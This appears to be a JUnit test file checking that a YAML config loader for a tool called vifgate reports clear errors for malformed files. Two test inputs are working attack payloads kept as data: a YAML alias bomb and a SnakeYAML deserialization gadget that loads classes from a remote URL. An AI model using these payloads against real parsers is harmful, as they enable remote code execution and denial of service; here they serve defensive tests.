package org.vifgate.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.common.jimfs.Configuration;
import com.google.common.jimfs.Jimfs;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.FileSystem;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/**
 * The error cases issue 2 names, one test each: every one is a single clear error naming the file
 * (with its line and column where it has one), never an exception.
 */
class IssueErrorCasesTest {
  private static final String VALID =
      "version: 1\n"
          + "node: XEN-A\n"
          + "dom0:\n"
          + "  vifs: [vif0.0]\n"
          + "bridges:\n"
          + "  - {name: xenbr0, uplink: peth0}\n";

  private final FileSystem fs = Jimfs.newFileSystem(Configuration.unix());
  private final Path file = fs.getPath("/etc/vifgate/vifgate.yaml");

  @AfterEach
  void close() throws IOException {
    fs.close();
  }

  private List<String> load(String text) throws IOException {
    return load(text.getBytes(StandardCharsets.UTF_8));
  }

  private List<String> load(byte[] bytes) throws IOException {
    Files.createDirectories(file.getParent());
    Files.write(file, bytes);
    return problems();
  }

  private List<String> problems() {
    LoadResult result = ConfigLoader.load(file);
    assertFalse(result.isValid());
    return result.problems().stream().map(Problem::format).toList();
  }

  @Test
  void theValidBaseLoads() throws IOException {
    Files.createDirectories(file.getParent());
    Files.writeString(file, VALID);
    assertTrue(ConfigLoader.load(file).isValid());
  }

  @Test
  void unknownKey() throws IOException {
    assertEquals(
        List.of("/etc/vifgate/vifgate.yaml:3:1: bakend: unknown key (did you mean 'backend'?)"),
        load(VALID.replace("dom0:", "bakend: nft\ndom0:")));
  }

  @Test
  void duplicateKeyNamesBothPlaces() throws IOException {
    assertEquals(
        List.of(
            "/etc/vifgate/vifgate.yaml:3:1: node: duplicate key (first written at 2:1); keep only"
                + " one"),
        load(VALID.replace("dom0:", "node: XEN-B\ndom0:")));
  }

  @Test
  void wrongType() throws IOException {
    assertEquals(
        List.of(
            "/etc/vifgate/vifgate.yaml:4:9: dom0.vifs: expected a list, got a string (\"vif0.0\")"),
        load(VALID.replace("[vif0.0]", "vif0.0")));
  }

  @Test
  void aliasBombIsOneErrorAtTheFirstAnchor() throws IOException {
    StringBuilder bomb = new StringBuilder(VALID).append("lol0: &l0 [lol, lol, lol, lol, lol]\n");
    for (int i = 1; i < 12; i++) {
      String[] refs = new String[10];
      Arrays.fill(refs, "*l" + (i - 1));
      bomb.append("lol")
          .append(i)
          .append(": &l")
          .append(i)
          .append(" [")
          .append(String.join(", ", refs))
          .append("]\n");
    }
    assertEquals(
        List.of(
            "/etc/vifgate/vifgate.yaml:7:7: lol0: anchors (&l0) are not allowed: write each value"
                + " out in full (this also keeps alias bombs out)"),
        load(bomb.toString()));
  }

  @Test
  void tagNamingAJavaClass() throws IOException {
    assertEquals(
        List.of(
            "/etc/vifgate/vifgate.yaml:2:7: node: tags are not allowed (found"
                + " '!!javax.script.ScriptEngineManager'): write a plain value; vifgate never"
                + " builds objects from tags"),
        load(
            VALID.replace(
                "node: XEN-A",
                "node: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                    + " [[!!java.net.URL [\"http://198.51.100.1/\"]]]]")));
  }

  @Test
  void absurdlyDeepNesting() throws IOException {
    // The root mapping is level 1 and x's list level 2, so the 16th "[" (column 19) is level 17.
    String deep = "[".repeat(10_000) + "]".repeat(10_000);
    assertEquals(
        List.of(
            "/etc/vifgate/vifgate.yaml:7:19: x[0][0][0][0][0][0][0][0][0][0][0][0][0][0][0]:"
                + " nested more than 16 levels deep; a desired-state file needs four"),
        load(VALID + "x: " + deep + "\n"));
  }

  @Test
  void notUtf8NamesTheFirstBadByte() throws IOException {
    // Line 7 is "x: é" and then a Latin-1 "é" (0xE9): the UTF-8 "é" is two bytes but one column.
    byte[] line7 = "x: é".getBytes(StandardCharsets.UTF_8);
    byte[] bad =
        concat(
            concat(VALID.getBytes(StandardCharsets.UTF_8), line7), new byte[] {(byte) 0xE9, '\n'});
    assertEquals(
        List.of(
            "/etc/vifgate/vifgate.yaml:7:5: not valid UTF-8 (byte 0xE9 cannot appear here); save"
                + " the file as UTF-8"),
        load(bad));
  }

  @Test
  void nulByte() throws IOException {
    assertEquals(
        List.of("/etc/vifgate/vifgate.yaml:2:4: contains a NUL byte; a desired-state file is text"),
        load(VALID.replace("node: XEN-A", "nod\0e: XEN-A")));
  }

  @Test
  void emptyFile() throws IOException {
    assertEquals(List.of("/etc/vifgate/vifgate.yaml: " + SourceFile.emptyMessage()), load(""));
  }

  @Test
  void fileWithOnlyCommentsAndBlankLinesIsEmpty() throws IOException {
    assertEquals(
        List.of("/etc/vifgate/vifgate.yaml: " + SourceFile.emptyMessage()),
        load("# vifgate.yaml\n\n   \n# nothing yet\n"));
  }

  @Test
  void fileOverOneMebibyte() throws IOException {
    byte[] big = new byte[SourceFile.MAX_BYTES + 1];
    Arrays.fill(big, (byte) '#');
    assertEquals(
        List.of(
            "/etc/vifgate/vifgate.yaml: file is too large (1048577 bytes); the limit is 1 MiB"
                + " (1048576 bytes)"),
        load(big));
  }

  @Test
  void fileOfExactlyOneMebibyteIsRead() throws IOException {
    byte[] comment = new byte[SourceFile.MAX_BYTES - VALID.length()];
    Arrays.fill(comment, (byte) '#');
    Files.createDirectories(file.getParent());
    Files.write(file, concat(VALID.getBytes(StandardCharsets.UTF_8), comment));
    assertEquals(SourceFile.MAX_BYTES, Files.size(file));
    assertTrue(ConfigLoader.load(file).isValid());
  }

  @Test
  void missingFile() {
    assertEquals(List.of("/etc/vifgate/vifgate.yaml: no such file"), problems());
  }

  @Test
  void danglingSymbolicLink() throws IOException {
    Files.createDirectories(file.getParent());
    Files.createSymbolicLink(file, fs.getPath("/etc/vifgate/gone.yaml"));
    assertEquals(
        List.of("/etc/vifgate/vifgate.yaml: is a symbolic link to a file that does not exist"),
        problems());
  }

  @Test
  void directoryGivenAsTheFile() throws IOException {
    Files.createDirectories(file);
    assertEquals(
        List.of("/etc/vifgate/vifgate.yaml: is a directory, not a desired-state file"), problems());
  }

  /** Reading /proc/self/mem from offset 0 fails with EIO: a real unreadable file, even for root. */
  @Test
  void unreadableFile() {
    Path mem = Path.of("/proc/self/mem");
    assertTrue(Files.isRegularFile(mem), "this test needs Linux /proc");
    LoadResult result = ConfigLoader.load(mem);
    assertEquals(
        List.of("/proc/self/mem: cannot be read: Input/output error"),
        result.problems().stream().map(Problem::format).toList());
  }

  @Test
  void otherControlCharacters() throws IOException {
    assertEquals(
        List.of(
            "/etc/vifgate/vifgate.yaml:2:12: contains the control character U+001B, which YAML"
                + " does not allow"),
        load(VALID.replace("node: XEN-A", "node: XEN-A\u001b[31m")));
  }

  @Test
  void byteOrderMarkIsAccepted() throws IOException {
    Files.createDirectories(file.getParent());
    Files.writeString(file, "\uFEFF" + VALID);
    assertTrue(ConfigLoader.load(file).isValid());
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] out = Arrays.copyOf(a, a.length + b.length);
    System.arraycopy(b, 0, out, a.length, b.length);
    return out;
  }
}
